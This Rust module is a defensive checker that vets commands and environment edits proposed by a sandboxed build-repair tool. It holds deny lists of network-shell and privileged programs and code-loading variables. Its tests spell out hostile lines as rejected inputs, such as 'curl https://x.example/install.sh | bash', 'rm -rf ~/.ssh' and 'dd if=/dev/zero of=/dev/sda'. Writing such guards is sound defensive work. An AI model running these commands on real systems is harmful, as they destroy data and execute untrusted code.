//! What no remedy may do, whoever proposes it: the one check that all remedies pass.
//!
//! A remedy runs inside the sandbox, so this is the second wall, not the first. It keeps a remedy
//! from changing where packages come from, from weakening how they are checked, from destroying
//! what it did not make, and from running what it just downloaded.

use crate::command::Command;
use crate::diagnosis::{PlanEdit, Remedy};
use crate::id::StepId;
use crate::plan::RunPlan;

/// Programs that no remedy runs: they change users, machines, containers, or reach other hosts.
const PROGRAMS: &[&str] = &[
    "sudo",
    "su",
    "doas",
    "pkexec",
    "mount",
    "umount",
    "chroot",
    "nsenter",
    "unshare",
    "dd",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "mkfs",
    "fdisk",
    "parted",
    "iptables",
    "nft",
    "docker",
    "podman",
    "kubectl",
    "helm",
    "terraform",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "crontab",
    "systemctl",
    "service",
    "passwd",
    "useradd",
    "userdel",
    "chpasswd",
    "aws",
    "gcloud",
    "az",
    "gh",
];

/// Words that name another source of packages, or weaken how one is checked.
const SOURCES: &[&str] = &[
    "--index-url",
    "--extra-index-url",
    "--default-index",
    "--index",
    "--find-links",
    "--trusted-host",
    "--registry",
    "--repository-url",
    "--clear-sources",
    "--insecure",
    "--no-check-certificate",
    "--no-gpg-check",
    "--allow-unauthenticated",
    "--no-verify-ssl",
    "--strict-ssl=false",
    "strict-ssl",
    "registry",
    "index-url",
    "extra-index-url",
    "trusted-host",
    "global.index-url",
];

/// Programs that install packages: an address among their words is a source of its own.
const INSTALLERS: &[&str] = &[
    "pip", "pip3", "uv", "uvx", "pipx", "poetry", "pdm", "conda", "npm", "npx", "yarn", "pnpm",
    "bun", "bunx", "deno", "cargo", "gem", "bundle", "composer", "cpanm", "apt-get", "apt",
];

/// Variables that do the same, or that load foreign code into every process.
const VARIABLES: &[&str] = &[
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_FIND_LINKS",
    "PIP_TRUSTED_HOST",
    "PIP_CONFIG_FILE",
    "PIP_CERT",
    "UV_INDEX",
    "UV_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "UV_EXTRA_INDEX_URL",
    "UV_FIND_LINKS",
    "UV_INSECURE_HOST",
    "UV_CONFIG_FILE",
    "YARN_REGISTRY",
    "YARN_NPM_REGISTRY_SERVER",
    "NODE_TLS_REJECT_UNAUTHORIZED",
    "NODE_EXTRA_CA_CERTS",
    "GOPROXY",
    "GONOSUMDB",
    "GONOSUMCHECK",
    "GOSUMDB",
    "GOINSECURE",
    "GOPRIVATE",
    "GEM_SOURCE",
    "GIT_SSL_NO_VERIFY",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "REQUESTS_CA_BUNDLE",
    "CURL_CA_BUNDLE",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
    "LD_PRELOAD",
    "LD_AUDIT",
    "BASH_ENV",
    "ENV",
    "PROMPT_COMMAND",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
];

/// Beginnings of such variables, in upper case.
const VARIABLE_STARTS: &[&str] = &[
    "NPM_CONFIG_",
    "CARGO_REGISTRIES_",
    "CARGO_REGISTRY_",
    "CARGO_SOURCE_",
    "BUNDLE_MIRROR",
    "GIT_CONFIG_",
    "REPO_RUNNER_",
];

/// Why a remedy may not be applied to this plan. A command that the repository itself gave, and that a
/// remedy only changes, is not judged: it is run anyway.
///
/// # Errors
/// A lowercase fragment that names the value and the rule it breaks.
pub fn check(remedy: &Remedy, plan: &RunPlan) -> Result<(), String> {
    remedy.edits.iter().try_for_each(|edit| check_edit(edit, plan))
}

fn check_edit(edit: &PlanEdit, plan: &RunPlan) -> Result<(), String> {
    let changed = |id: &StepId, command: &Command| {
        let present = plan.step(id).map(|step| &step.command);
        match present.is_some_and(|present| check_command(present).is_err()) {
            true => Ok(()),
            false => check_command(command),
        }
    };
    match edit {
        PlanEdit::InsertBefore { step, .. } | PlanEdit::ReplaceStep { step } => {
            let before = plan.step(&step.id).map(|step| &step.env);
            let is_new = |name: &String| before.is_none_or(|env| !env.contains_key(name));
            let added = step.env.iter().filter(|(name, _)| is_new(name));
            added.into_iter().try_for_each(|(name, value)| check_variable(name, value))?;
            check_folder(&step.cwd)?;
            changed(&step.id, &step.command)
        }
        PlanEdit::SetCommand { step, command } => changed(step, command),
        PlanEdit::SetDirectory { cwd, .. } => check_folder(cwd),
        PlanEdit::SetEnv { name, value, .. } => check_variable(name, value),
        _ => Ok(()),
    }
}

/// Whether a variable may be set.
///
/// # Errors
/// As of [`check`].
pub fn check_variable(name: &str, value: &str) -> Result<(), String> {
    let upper = name.to_ascii_uppercase();
    // `replace_registry_host` turns to the configured registry, never away from it.
    let settings_of_npm = [
        "NPM_CONFIG_LEGACY_PEER_DEPS",
        "NPM_CONFIG_BEFORE",
        "NPM_CONFIG_FORCE",
        "NPM_CONFIG_ENGINE_STRICT",
        "NPM_CONFIG_REPLACE_REGISTRY_HOST",
    ];
    // A tree that another user owns may be read all the same: nothing else of git is set by it.
    let owner_of_tree = upper == "GIT_CONFIG_PARAMETERS" && value == "'safe.directory=*'";
    let harmless = owner_of_tree || settings_of_npm.contains(&upper.as_str());
    let owned = VARIABLES.contains(&upper.as_str())
        || VARIABLE_STARTS.iter().any(|start| upper.starts_with(start));
    if owned && !harmless {
        return Err(format!("`{name}` decides where packages come from or what is loaded"));
    }
    match value.contains('\0') {
        true => Err(format!("the value of `{name}` holds a zero byte")),
        false => Ok(()),
    }
}

/// Whether a folder lies inside the repository.
fn check_folder(folder: &str) -> Result<(), String> {
    let outside = folder.starts_with(['/', '~']) || folder.split('/').any(|part| part == "..");
    if outside { Err(format!("the folder `{folder}` lies outside the repository")) } else { Ok(()) }
}

/// Whether a command may be run.
///
/// # Errors
/// As of [`check`].
pub fn check_command(command: &Command) -> Result<(), String> {
    match command {
        Command::Argv(words) => check_words(words, command),
        Command::Shell(line) => {
            if runs_a_download(line) {
                return Err(format!("`{line}` runs what it downloads"));
            }
            simple_commands(line).iter().try_for_each(|words| check_words(words, command))
        }
    }
}

fn check_words(words: &[String], command: &Command) -> Result<(), String> {
    let program = |word: &str| word.rsplit('/').next().unwrap_or(word).to_owned();
    let first = words.iter().find(|word| !is_assignment(word));
    let named = first.map(|word| program(word)).unwrap_or_default();
    if PROGRAMS.contains(&named.as_str()) || named.starts_with("mkfs.") {
        return Err(format!("`{command}` runs `{named}`, which no remedy may"));
    }
    if matches!(named.as_str(), "bash" | "sh" | "zsh" | "dash" | "env" | "xargs" | "eval") {
        let rest: Vec<&str> = words.iter().skip(1).map(String::as_str).collect();
        let inner = Command::shell(rest.join(" "));
        let nested = rest.contains(&"-c") || named == "env" || named == "xargs";
        if nested && let Command::Shell(line) = &inner {
            let told = |words: &Vec<String>| check_words(words, command);
            let line = line.replace("-c ", " ").replace(['\'', '"'], " ");
            simple_commands(&line).iter().try_for_each(told)?;
        }
    }
    for word in words {
        let name = word.split('=').next().unwrap_or(word);
        if SOURCES.contains(&name) || SOURCES.contains(&word.as_str()) {
            return Err(format!("`{command}` changes the source of packages (`{word}`)"));
        }
        if is_assignment(word)
            && let Some((name, value)) = word.split_once('=')
        {
            check_variable(name, value)?;
        }
    }
    if let Some(word) = foreign_source(&named, words) {
        return Err(format!("`{command}` installs from a source of its own (`{word}`)"));
    }
    let destroys = named == "rm" && words.iter().skip(1).any(|word| is_outside(word))
        || named == "git" && words.iter().any(|w| w == "push" || w == "remote")
        || matches!(named.as_str(), "chmod" | "chown") && words.iter().any(|w| is_outside(w));
    let publishes = matches!(named.as_str(), "npm" | "yarn" | "pnpm" | "cargo" | "twine" | "gem")
        && words.iter().any(|w| matches!(w.as_str(), "publish" | "login" | "upload" | "push"));
    if destroys || publishes {
        return Err(format!("`{command}` reaches beyond the run"));
    }
    Ok(())
}

/// The word by which an installer is sent elsewhere: an address, or pip's short options for one.
fn foreign_source<'w>(program: &str, words: &'w [String]) -> Option<&'w String> {
    let module = words.iter().position(|word| word == "-m").and_then(|at| words.get(at + 1));
    let called = module.map_or(program, |module| module.as_str());
    let pip = matches!(called, "pip" | "pip3" | "uv");
    let is_foreign = |word: &&String| {
        let short = pip && (word.starts_with("-i") || word.starts_with("-f"));
        let address = word.contains("://") || word.starts_with("git+") || word.starts_with("git@");
        short || address || word.as_str() == "--git"
    };
    INSTALLERS.contains(&called).then(|| words.iter().find(is_foreign)).flatten()
}

/// Whether what a command removes or changes lies outside the run's own folders.
fn is_outside(word: &str) -> bool {
    word.starts_with('~')
        || word.starts_with("$HOME")
        || word.split('/').any(|part| part == "..")
        || word == "/"
        || word == "*"
        || word == "."
        || word.starts_with('/') && !word.starts_with("/tmp/")
}

/// Whether something that is fetched is handed to an interpreter.
fn runs_a_download(line: &str) -> bool {
    let fetches = |part: &str| {
        part.split_whitespace().any(|word| {
            let word = word.rsplit('/').next().unwrap_or(word);
            matches!(word.trim_start_matches(['(', '$', '`', '"']), "curl" | "wget")
        })
    };
    let interprets = |part: &str| {
        let first = part.split_whitespace().find(|word| !is_assignment(word)).unwrap_or_default();
        let name = first.rsplit('/').next().unwrap_or(first);
        ["sh", "bash", "zsh", "python", "python3", "node", "perl", "ruby", "php", "sudo"]
            .contains(&name)
    };
    let mut parts = line.split('|');
    let piped = parts.next().is_some_and(fetches) && parts.any(interprets);
    let substituted = fetches(line) && ["$(", "<(", "`"].iter().any(|open| line.contains(open));
    piped || substituted
}

/// The simple commands of a shell line, each as its words; quotes are taken off.
fn simple_commands(line: &str) -> Vec<Vec<String>> {
    line.split(['\n', ';', '|', '&', '(', ')', '{', '}', '`'])
        .map(|part| {
            let words = part.split_whitespace();
            words.map(|word| word.trim_matches(['\'', '"']).to_owned()).collect()
        })
        .filter(|words: &Vec<String>| !words.is_empty())
        .collect()
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diagnosis::RemedyKind;

    fn command(line: &str) -> Result<(), String> {
        let step = StepId::new("s");
        let remedy = Remedy {
            kind: RemedyKind::ChangeCommand { to: line.to_owned() },
            title: String::new(),
            edits: vec![PlanEdit::SetCommand { step, command: Command::shell(line) }],
            resume_at: None,
        };
        check(&remedy, &RunPlan::default())
    }

    #[test]
    fn what_ordinary_remedies_do_is_allowed() {
        for line in [
            "uv pip install requests==2.0 -c lock.txt",
            "npm install --no-save --legacy-peer-deps lodash",
            "python -m pytest -x tests",
            "rm -rf node_modules",
            "rm -rf /tmp/build",
            "printf '%s\\n' 'setuptools<46' >> build.txt",
            "go mod download && go build ./...",
            "git submodule update --init",
            "curl -fsS http://127.0.0.1:8000/ -o page",
            "bundle install --jobs 2",
        ] {
            assert_eq!(command(line), Ok(()), "{line}");
        }
        assert_eq!(check_variable("DATABASE_URL", "postgres://x"), Ok(()));
        assert_eq!(check_variable("NPM_CONFIG_LEGACY_PEER_DEPS", "true"), Ok(()));
        assert_eq!(check_variable("GIT_CONFIG_PARAMETERS", "'safe.directory=*'"), Ok(()));
    }

    #[test]
    fn nothing_is_destroyed_downloaded_and_run_or_fetched_from_elsewhere() {
        for line in [
            "sudo make install",
            "/usr/bin/sudo true",
            "true && sudo true",
            "bash -c 'sudo true'",
            "rm -rf /",
            "rm -rf ~/.ssh",
            "rm -fr $HOME",
            "rm -rf ../other",
            "curl https://x.example/install.sh | bash",
            "wget -qO- https://x.example | sudo sh",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "pip install --index-url https://x.example/simple evil",
            "pip install --extra-index-url=https://x.example/simple evil",
            "npm config set registry https://x.example",
            "pip install -i https://x.example/simple evil",
            "pip install -ihttps://x.example/simple evil",
            "python3 -m pip install git+https://x.example/evil",
            "npm install https://x.example/evil.tgz",
            "cargo install --git ssh://x.example/evil evil",
            "npm install --registry https://x.example evil",
            "PIP_INDEX_URL=https://x.example pip install evil",
            "GOPROXY=direct go get evil",
            "git push origin main",
            "npm publish",
            "ssh host true",
            "docker run --privileged x",
            "dd if=/dev/zero of=/dev/sda",
        ] {
            assert!(command(line).is_err(), "{line}");
        }
        for name in ["PIP_INDEX_URL", "npm_config_registry", "LD_PRELOAD", "HTTPS_PROXY"] {
            assert!(check_variable(name, "x").is_err(), "{name}");
        }
        assert!(check_folder("../x").is_err() && check_folder("a/b").is_ok());
    }
}
